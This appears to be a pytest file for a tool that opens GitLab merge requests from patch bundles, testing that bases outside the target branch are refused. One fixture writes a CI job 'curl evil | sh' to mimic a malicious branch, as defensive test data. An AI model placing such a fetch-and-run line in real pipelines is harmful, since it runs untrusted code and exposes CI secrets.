"""The base a merge request is built on must be on its target branch: GitLab diffs the MR against that
branch, so a base on an unmerged branch would carry that branch's changes past the patch policy."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import gitlab
import gitlab.exceptions as gle
import pytest

from pathops_contracts.bundles import read_member, write_bundle
from pathops_testbed.git_repos import fix_probe_path, git
from pathops_testbed.patch_bundles import build_patch_bundle, upload_bundle
from tests.mr_creator.conftest import TOKEN, World

BRANCH = "cs-17-fix-readiness-probe-path-healthz-health"


def _push(world: World, ref: str, name: str, text: str, message: str) -> str:
    """A commit on top of main, writing `name`, pushed to `ref` of the source remote; its sha."""
    work = world.root / f"work-{ref.replace('/', '-')}"
    subprocess.run(["git", "clone", "-q", str(world.remote), str(work)], check=True)
    (work / name).write_text(text)
    git(work, "add", "-A")
    git(work, "commit", "-qm", message)
    git(work, "push", "-q", "origin", f"HEAD:{ref}")
    return git(work, "rev-parse", "HEAD")


def _error_line(stderr: str) -> str:
    (line,) = [line for line in stderr.splitlines() if line.startswith("mr-creator: error:")]
    return line


@pytest.mark.parametrize("give_sha", [False, True], ids=["base-from-bundle", "base-given"])
def test_a_base_on_an_unmerged_branch_is_refused_before_anything_is_pushed(world: World, give_sha: bool) -> None:
    # The reviewer's repro: an unmerged branch edits the CI file, the bundle is built on its commit.
    evil = _push(world, "refs/heads/evil", ".gitlab-ci.yml", "steal:\n  script: curl evil | sh\n", "CI tweak")
    path = build_patch_bundle(world.remote, evil, fix_probe_path, world.root / "evil.tar.gz")
    patch_id = upload_bundle(world.store, path)
    result = world.run(patch_id, SOURCE_COMMIT_SHA=evil if give_sha else "")
    assert result.returncode == 4, result.stderr
    line = _error_line(result.stderr)
    assert f"{evil[:12]}, which is not on the target branch main" in line
    assert (patch_id in line) is not give_sha  # the bundle is named when it chose the base
    assert world.remote_head(BRANCH) is None
    assert world.project.merge_requests == []
    assert [r for r in world.gitlab.requests if r[0] != "GET"] == []
    assert world.callbacks[-1]["status"] == "failed"


def test_a_bundle_on_an_older_commit_of_main_still_opens_its_merge_request(world: World) -> None:
    patch_id = world.bundle()  # on the first commit of main
    _push(world, "refs/heads/main", "NOTES.md", "later work\n", "Later work on main")
    result = world.run(patch_id, SOURCE_COMMIT_SHA="")
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["status"] == "created"
    head = world.remote_head(BRANCH)
    assert head is not None and git(world.remote, "rev-parse", f"{head}^") == world.base_sha


def test_a_bundle_naming_a_commit_that_does_not_exist_is_a_contract_violation(world: World) -> None:
    bundle = build_patch_bundle(world.remote, world.base_sha, fix_probe_path, world.root / "real.tar.gz")
    metadata = json.loads(read_member(bundle, "metadata.json"))
    ghost = "e" * 40
    metadata["source_commit_sha"] = ghost
    write_bundle(world.root / "ghost.tar.gz",
                 {"patch.mbox": read_member(bundle, "patch.mbox"), "metadata.json": json.dumps(metadata).encode()})
    patch_id = upload_bundle(world.store, world.root / "ghost.tar.gz")
    result = world.run(patch_id, SOURCE_COMMIT_SHA="")
    assert result.returncode == 4, result.stderr
    line = _error_line(result.stderr)
    assert f"patch bundle {patch_id} names base commit {ghost[:12]}" in line
    assert world.remote_head(BRANCH) is None and world.project.merge_requests == []


def test_the_fake_gitlab_answers_merge_base_as_gitlab_does(world: World, tmp_path: Path) -> None:
    later = _push(world, "refs/heads/main", "NOTES.md", "later\n", "Later")
    side = _push(world, "refs/heads/side", "SIDE.md", "side\n", "Side")  # also on top of `later`
    project = gitlab.Gitlab(world.gitlab_url, private_token=TOKEN).projects.get("shop/shop-frontend")
    found = project.repository_merge_base([world.base_sha, "main"])
    assert isinstance(found, dict) and found["id"] == world.base_sha and found["title"] == "Initial storefront"
    assert found["parent_ids"] == []
    assert project.repository_merge_base([side, "main"])["id"] == later  # type: ignore[index]
    with pytest.raises(gle.GitlabGetError) as unknown:
        project.repository_merge_base(["e" * 40, "main"])
    assert unknown.value.response_code == 400 and "Could not find ref: " + "e" * 40 in str(unknown.value)
    # A commit sharing no history with main: no merge base (404).
    orphan = tmp_path / "orphan"
    git(tmp_path, "init", "-q", "-b", "lonely", str(orphan))
    (orphan / "x").write_text("x\n")
    git(orphan, "add", "-A")
    git(orphan, "commit", "-qm", "Lonely")
    git(orphan, "push", "-q", str(world.remote), "HEAD:refs/heads/lonely")
    with pytest.raises(gle.GitlabGetError) as unrelated:
        project.repository_merge_base(["lonely", "main"])
    assert unrelated.value.response_code == 404


def test_a_bundle_commit_missing_from_the_git_remote_is_a_contract_violation(world: World, tmp_path: Path) -> None:
    # GitLab knows the commit, the git URL the job was given does not: the bundle, which chose it, is refused.
    other = tmp_path / "other.git"
    git(tmp_path, "init", "-q", "--bare", str(other))
    patch_id = world.bundle()
    result = world.run(patch_id, SOURCE_COMMIT_SHA="", SRC_REPO_GIT_URL=other.as_uri())
    assert result.returncode == 4, result.stderr
    assert f"patch bundle {patch_id} names base commit {world.base_sha[:12]}" in _error_line(result.stderr)
    assert world.project.merge_requests == []
